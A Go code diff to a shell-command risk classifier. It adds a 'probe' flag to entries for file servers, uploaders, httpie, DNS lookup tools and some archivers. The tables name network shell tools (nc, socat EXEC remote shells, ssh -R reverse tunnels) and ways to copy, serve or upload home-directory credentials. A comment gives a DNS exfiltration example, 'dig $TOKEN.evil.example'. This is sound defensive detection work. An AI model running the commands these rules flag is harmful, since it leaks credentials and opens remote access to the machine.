@@ -522,11 +522,11 @@ func riskCommands() map[string]*cmdSpec {
 			opts: []optEffect{{names: []string{"--delete", "--delete-before", "--delete-during", "--delete-delay", "--delete-after", "--delete-excluded", "--remove-source-files"}, class: ClassDestructive, why: "deletes files that are not in the source"},
 				{match: wholeTree, operand: true, class: ClassCredential, why: "copies the whole home directory, credentials included"},
 				{match: credentialPath, operand: true, class: ClassCredential, why: "copies a credential file or directory"}}}, "nc": ncSpec, "ncat": ncSpec, "netcat": ncSpec,
-		"socat": {effect: EffectNetwork, opts: []optEffect{{names: []string{"EXEC:", "SYSTEM:", "exec:", "system:"}, operand: true, prefix: true, effect: EffectRuns, class: ClassExfiltrate, why: "connects a program on this machine to a network peer (a remote shell)"}, sendsCredential}}, "telnet": {effect: EffectNetwork}, "ftp": {effect: EffectNetwork}, "tftp": {effect: EffectNetwork}, "lftp": {effect: EffectNetwork}, "smbclient": {effect: EffectNetwork},
+		"socat": {effect: EffectNetwork, opts: []optEffect{{names: []string{"EXEC:", "SYSTEM:", "exec:", "system:"}, operand: true, prefix: true, effect: EffectRuns, class: ClassExfiltrate, why: "connects a program on this machine to a network peer (a remote shell)"}, sendsCredential}}, "telnet": {effect: EffectNetwork}, "ftp": {effect: EffectNetwork}, "tftp": {effect: EffectNetwork}, "lftp": {effect: EffectNetwork, probe: true}, "smbclient": {effect: EffectNetwork, probe: true},
 		"ssh": {effect: EffectNetwork | EffectRuns, opts: []optEffect{{names: []string{"-R"}, class: ClassExfiltrate, why: "opens a reverse tunnel that exposes this machine to the remote side"}}},
 		// Tunnels put a local port on the internet.
 		// Reading a whole home directory reads every credential in it.
-		"tar": archiver("CfTXgKLNVbH"), "zip": archiver("bntxiT"), "7z": archiver(""), "7za": archiver(""), "rar": archiver(""),
+		"tar": archiver("CfTXgKLNVbH", false), "zip": archiver("bntxiT", false), "7z": archiver("", true), "7za": archiver("", true), "rar": archiver("", true),
 		"grep": homeSearch, "egrep": homeSearch, "fgrep": homeSearch, "rg": homeSearch, "ag": homeSearch, "ack": homeSearch,
 		// python -m http.server: serving the workspace is a dev server,
 		// serving the home directory or / hands its files to the network.
@@ -535,10 +535,10 @@ func riskCommands() map[string]*cmdSpec {
 		// Other file servers: the directory they serve is an option or
 		// their operand (servers.go: the working directory otherwise).
 		"php":         {opts: []optEffect{servesDir("-t")}},
-		"httpd":       {opts: []optEffect{servesDir("-h")}, shortVal: "phcru"},
-		"updog":       {opts: []optEffect{servesDir("-d", "--directory")}, long: []string{"directory=", "port=", "password=", "ssl"}, shortVal: "dp"},
-		"caddy":       {subs: map[string]*cmdSpec{"file-server": {opts: []optEffect{servesDir("--root", "-r")}, long: []string{"root=", "listen=", "domain=", "browse", "templates", "access-log", "debug"}, shortVal: "rld"}}},
-		"twistd":      {opts: []optEffect{servesDir("--path")}},
+		"httpd":       {probe: true, opts: []optEffect{servesDir("-h")}, shortVal: "phcru"},
+		"updog":       {probe: true, opts: []optEffect{servesDir("-d", "--directory")}, long: []string{"directory=", "port=", "password=", "ssl"}, shortVal: "dp"},
+		"caddy":       {probe: true, subs: map[string]*cmdSpec{"file-server": {opts: []optEffect{servesDir("--root", "-r")}, long: []string{"root=", "listen=", "domain=", "browse", "templates", "access-log", "debug"}, shortVal: "rld"}}},
+		"twistd":      {probe: true, opts: []optEffect{servesDir("--path")}},
 		"http-server": servesOperand("paCKcdeSt"), "serve": servesOperand("lcp"), "live-server": servesOperand(""),
 		"miniserve": servesOperand("pigtaiuc"), "darkhttpd": servesOperand(""),
 		"dig": dnsLookup, "nslookup": dnsLookup, "host": dnsLookup, "drill": dnsLookup, "ping": dnsLookup, "ping6": dnsLookup, "traceroute": dnsLookup,
@@ -1002,9 +1002,10 @@ var (
 		{match: accessUnit, operand: true, class: ClassDestructive, why: "stops the remote-access service, locking its users out of the machine"}}}
 	homeSearch = &cmdSpec{shortVal: "efABCmdgtT", patternOpts: []string{"-e", "-f", "--regexp", "--file"}, opts: []optEffect{{match: wholeTree, operand: true, class: ClassCredential, why: "searches a whole home directory (or /), credential files included"}}}
 	// archiver packs the files it is given: a whole home directory takes
-	// every credential in it along.
-	archiver = func(shortVal string) *cmdSpec {
-		return &cmdSpec{shortVal: shortVal, opts: []optEffect{{match: wholeTree, operand: true, class: ClassCredential, why: "archives a whole home directory (or /), credential files included"}}}
+	// every credential in it along. probe is set for the archivers the
+	// tables did not know before (their operands are still probed).
+	archiver = func(shortVal string, probe bool) *cmdSpec {
+		return &cmdSpec{shortVal: shortVal, probe: probe, opts: []optEffect{{match: wholeTree, operand: true, class: ClassCredential, why: "archives a whole home directory (or /), credential files included"}}}
 	}
 	declSpec = &cmdSpec{opts: []optEffect{{match: historyVar, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the shell history, a security control that records what runs"}}}
 	echoSpec = &cmdSpec{opts: []optEffect{{match: secretRef, operand: true, class: ClassCredential, why: "prints a secret from the environment"}}}
@@ -1013,7 +1014,7 @@ var (
 	servesOperandEffect = optEffect{match: servesSecrets, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "serves the home directory, the root or credentials to the network"}
 	// uploader sends the files it is given: a credential among them
 	// leaves the machine.
-	uploader      = &cmdSpec{effect: EffectNetwork, opts: []optEffect{sendsCredential, sendsHome}}
+	uploader      = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{sendsCredential, sendsHome}}
 	gcloudCompute = &cmdSpec{subs: map[string]*cmdSpec{"scp": uploader}}
 	gcloudTracks  = &cmdSpec{subs: map[string]*cmdSpec{"storage": uploader, "compute": gcloudCompute}}
 	// awsSendsFile is aws's way of reading a parameter from a file
@@ -1023,11 +1024,11 @@ var (
 	}, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends a credential file to the network"}
 	// httpieSpec is httpie and xh: request items name files to send
 	// ("@file", "field@file", "field=@file", "field:=@file").
-	httpieSpec = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}, sendsCredential,
+	httpieSpec = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}, sendsCredential,
 		{match: httpieSecret, operand: true, class: ClassExfiltrate, why: "sends a secret from the environment in the URL or the request body"}}}
 	// dnsLookup resolves or pings a name: a secret in it leaves the
 	// machine in the DNS query ("dig $TOKEN.evil.example").
-	dnsLookup = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: secretRef, operand: true, class: ClassExfiltrate, why: "puts a secret from the environment in a name it looks up, which leaves the machine in the DNS query"}}}
+	dnsLookup = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{{match: secretRef, operand: true, class: ClassExfiltrate, why: "puts a secret from the environment in a name it looks up, which leaves the machine in the DNS query"}}}
 )
 
 // k8sSecret reports whether a kubectl get operand names secrets.
@@ -1060,7 +1061,7 @@ func servesDir(names ...string) optEffect {
 // servesOperand is a file server whose operand is the served directory;
 // shortVal lists its short options that take a value ("-p 8080").
 func servesOperand(shortVal string) *cmdSpec {
-	return &cmdSpec{effect: EffectNetwork, shortVal: shortVal, opts: []optEffect{servesOperandEffect}}
+	return &cmdSpec{effect: EffectNetwork, shortVal: shortVal, probe: true, opts: []optEffect{servesOperandEffect}}
 }
 
 // secretInBody is a fetcher's secret sent as data: in the request body
